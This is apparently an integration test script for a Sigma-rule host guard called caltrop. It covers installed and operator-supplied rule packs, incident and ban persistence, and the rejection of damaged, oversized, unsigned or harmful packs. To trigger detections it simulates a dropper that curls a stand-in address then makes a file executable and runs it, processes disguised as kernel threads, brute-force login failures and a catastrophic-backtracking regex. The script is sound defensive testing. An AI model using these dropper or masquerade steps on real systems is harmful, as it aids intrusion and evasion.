#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# Sigma rules on the device: what really runs is judged by the pack that is installed, an operator's own pack takes its
# place over the link, and one that is damaged, too large, of a later format or signed by a stranger changes nothing.

. "$(dirname "$0")/lib.sh"
export WORLD_USERNS=no RULES=yes		# a user namespace may load no BPF
world_enter "$@"
needs_bpf
[ -e /usr/local/share/caltrop/caltrop-rules.pack ] || skip "no pack was built"
cast
guard_conf <<-EOF
	[process]
	enabled = yes
EOF
fleet_start

rules() { on device caltrop local rules -c $CONF --json; }
rule_has() { rules | jq -e "[.rules[] | select(.title | test(\"$1\"))][0] | $2" >/dev/null; }	# TITLE JQ
pack_is() { rules | jq -e ".pack | $1" >/dev/null; }
incident_has() { desk incident list --limit 0 --json | jq -e ".items | any(.[].timeline[]; $1)" >/dev/null; }

check "the installed pack is in use" pack_is '.about == "the installed pack" and .active >= 60'

# A dropper: fetched, made executable and run. There is nothing to fetch, which makes no difference.
on device sh -c 'cd /tmp; cp /bin/true fetched; curl -s -m 1 -o /tmp/x http://192.0.2.99/x; chmod +x /tmp/fetched; /tmp/fetched' \
	>/dev/null 2>&1
wait_for 10 "the three steps are one correlation" rule_has "Fetched, made executable and run" '.matched >= 1'
wait_for 10 "the operator has the incident" incident_has '.title | test("Fetched, made executable and run")'

# A storm is one incident.
on device bash -c 'for i in $(seq 30); do (exec -a "[kworker/0:1]" /bin/true); done'
wait_for 10 "thirty matches" rule_has "pretends to be a kernel thread" '.matched >= 30'
one_incident() { [ "$(desk incident list --limit 0 --json | jq '[.items[].timeline[] | select(.title | test("kernel thread"))] | length')" = 1 ]; }
wait_for 10 "are one incident" one_incident

# What the service has of it, recorded, gives a replay the same alerts.
desk event list --sigma --limit 0 >/tmp/recorded.jsonl
found() { caltrop replay --json --events /tmp/recorded.jsonl 2>/tmp/said | jq -es "[.[] | select(.decision == \"alert\" and ($1))] | length > 0" >/dev/null; }
check "a replay of what was recorded finds the three steps" found '.title | test("Fetched, made executable and run")'
check "and what pretends to be a kernel thread, by the device's user" found '(.title | test("kernel thread")) and .user == "root"'
check "all of it is the guard's own: $(cat /tmp/said)" grep -q 'recorded.jsonl: [0-9]* events$' /tmp/said

# A pack of the operator's own.
mkdir -p /tmp/own
cat >/tmp/own/rule.yml <<-'EOF'
	title: The word of the day
	id: 0a1b2c3d-0000-4000-8000-000000000001
	status: test
	author: An operator
	logsource:
	    product: linux
	    category: process_creation
	detection:
	    selection:
	        CommandLine|contains: word-of-the-day
	    condition: selection
	level: high
EOF
cat >/tmp/own/halves.yml <<-'EOF'
	title: A half
	id: 0a1b2c3d-0000-4000-8000-0000000000aa
	author: An operator
	logsource:
	    product: linux
	    category: process_creation
	detection:
	    selection:
	        Image: /tmp/half
	    condition: selection
	level: low
	---
	title: Three halves
	id: 0a1b2c3d-0000-4000-8000-0000000000ab
	author: An operator
	correlation:
	    type: event_count
	    rules: [0a1b2c3d-0000-4000-8000-0000000000aa]
	    group-by: [User]
	    timespan: 1h
	    condition:
	        gte: 3
	level: high
EOF
caltrop rule build /tmp/own -o /tmp/own.pack --name own --version 1 || fail "the pack does not build"
offer() { desk object offer "$1" --kind rules --name pack --device device --version "$2" --json | jq -r .id; }
object_is() { desk object show "$1" --json | jq -e ".targets[0].state == \"$2\"" >/dev/null; }
id=$(offer /tmp/own.pack 1)
wait_for 20 "the device keeps it" object_is "$id" done
wait_for 10 "and uses it" pack_is '.name == "own" and .about == "the service'"'"'s pack"'
on device env true word-of-the-day
wait_for 10 "its rule finds what runs" incident_has '.rule == "0a1b2c3d-0000-4000-8000-000000000001"'
ok "a pack goes to a device and judges what runs there"

# Another pack comes while an incident is open, a ban in force, and what is counted half full: nothing of that is lost.
word=0a1b2c3d-0000-4000-8000-000000000001 halves=0a1b2c3d-0000-4000-8000-0000000000ab
open_of() { on device caltrop local incidents -c $CONF --json |
	jq -cs "[.. | objects | select(.rule == \"$1\" and .state == \"open\") | {id, title}]"; }
has_open() { [ "$(open_of "$1")" != '[]' ]; }
halves() { for _ in $(seq "$1"); do on device "${@:2}" /tmp/half; done; }			# NUMBER [AS...]
nobody="setpriv --reuid=65534 --clear-groups"
cp /bin/true /tmp/half; chmod 755 /tmp/half
halves 2
wait_for 10 "two of three are counted" rule_has "A half" '.matched == 2'
for _ in 1 2 3 4 5; do log_failure $ATTACKER1; done
for _ in 1 2 3 4; do log_failure $ATTACKER2; done
wait_for 10 "a ban is in force" banned $ATTACKER1
before=$(open_of $word)
check "an incident is open" has_open $word
mkdir /tmp/next; cp /tmp/own/halves.yml /tmp/next/
caltrop rule build /tmp/next -o /tmp/next.pack --name own --version 2 || fail "the pack does not build"
id=$(offer /tmp/next.pack 2)
wait_for 20 "the next pack is in use" pack_is '.version == 2 and .rules == 2'
check "which the log says" grep -q "the service's pack: own version 2, 2 rules, 2 of them active" /var/log/world/guard
check "an incident of a rule that is gone is open as it was" [ "$before" = "$(open_of $word)" ]
check "the ban is in force" banned $ATTACKER1
check_not "two of three are two of three" has_open $halves
halves 1
wait_for 10 "and the third one completes them" has_open $halves
log_failure $ATTACKER2
wait_for 10 "so does the fifth wrong password" banned $ATTACKER2
halves 2 $nobody
wait_for 10 "somebody else's two" rule_has "A half" '.matched == 3'
before=$(open_of $halves)
stop guard
guard_start
wait_for 10 "after a restart the service's pack is in use" pack_is '.version == 2'
check "with its incident of before" [ "$before" = "$(open_of $halves)" ]
closed() { desk incident list --limit 0 --json | jq -e ".items | any(.rule == \"$word\" and .state == \"closed\")" >/dev/null; }
wait_for 10 "that of the rule that is in no pack any more is told of as closed" closed
halves 1 $nobody
wait_for 10 "and with what was counted" rule_has "Three halves" '.matched == 1'
ok "incidents, bans and what is counted outlive another pack and a restart"

# Packs that harm: one that takes its time and finds nothing, one that finds everything. The one before comes back.
harmful() {						# NAME PATTERN VERSION
	sed "s/CommandLine|contains: .*/$2/; s/0a1b2c3d-0000/0a1b2c3d-000$3/" /tmp/own/rule.yml >/tmp/harmful.yml
	caltrop rule build /tmp/harmful.yml -o /tmp/harmful.pack --name "$1" --version "$3" || fail "the pack does not build"
	id=$(offer /tmp/harmful.pack "$3")
	wait_for 20 "the pack '$1' is used" pack_is ".name == \"$1\" and .probation"
	on device bash -c 'for ((i = 0; i < 130; i++)); do /bin/true "$1"; done' _ "$(printf 'a%.0s' {1..300})"
	wait_for 10 "and is used no more" pack_is '.name == "own"'
}
harmful slow 'CommandLine|re: "(a{1,20}){20}b"' 3
check "for the time that it takes" health_says "its patterns take far more time than those of the pack before it"
any=$(printf '?%.0s' {1..250})
harmful like "CommandLine: ['*${any}b', '*${any}c']" 4
harmful loud 'Image|contains: "\/"' 5
check "for all that it finds" health_says "it finds far more than this device had before"

# What is no pack.
head -c 200 /tmp/own.pack >/tmp/cut.pack
id=$(offer /tmp/cut.pack 6)
wait_for 20 "bytes are bytes: the device keeps them" object_is "$id" done
wait_for 10 "health says why they are no pack" health_says "the service's pack is not used: it"
check "the one before is in use" pack_is '.name == "own"'
{ head -c 4 /tmp/own.pack; printf '\377\377'; tail -c +7 /tmp/own.pack; } >/tmp/later.pack
id=$(offer /tmp/later.pack 7)
wait_for 20 "one of a later format" object_is "$id" done
wait_for 10 "is named" health_says "the service's pack is not used: it.*format"
check "the one before is in use" pack_is '.name == "own"'
{ cat /tmp/own.pack; head -c 300000 /dev/zero; } >/tmp/large.pack
id=$(offer /tmp/large.pack 8)
wait_for 20 "one larger than this build takes" object_is "$id" done
wait_for 10 "is named with the limit" health_says "the service's pack is not used: it has more than the 262144 bytes that this build takes .RULES_BYTES_MAX"
check "the one before is in use" pack_is '.name == "own"'
caltrop key create /tmp/stranger.pem >/dev/null
check_not "one that a stranger has signed is not taken" \
	desk object offer /tmp/own.pack --kind rules --name pack --device device --version 9 --order-key /tmp/stranger.pem
check "the one before is in use" pack_is '.name == "own"'
id=$(offer /tmp/own.pack 2)
wait_for 20 "an older version is refused" object_is "$id" refused
other=$(desk object offer /tmp/own.pack --kind rules --name other --device device --version 10 --json | jq -r .id)
wait_for 20 "and so is another name" object_is "$other" refused

# What the settings name is said to be missing, or not to be trusted.
stop guard
guard_conf <<-'EOF'
	[rules]
	pack = /tmp/mine.pack
EOF
guard_start
wait_for 10 "a pack that is not there is named" health_says '\[rules\] pack is not used: it cannot be read'
cp /tmp/own.pack /tmp/mine.pack; chmod 666 /tmp/mine.pack
stop guard; guard_start
check "one that everybody may write is not used" health_says '\[rules\] pack is not used'
chmod 644 /tmp/mine.pack
stop guard; guard_start
wait_for 10 "one that only root may write is" pack_is '.name == "own" and .about == "[rules] pack"'
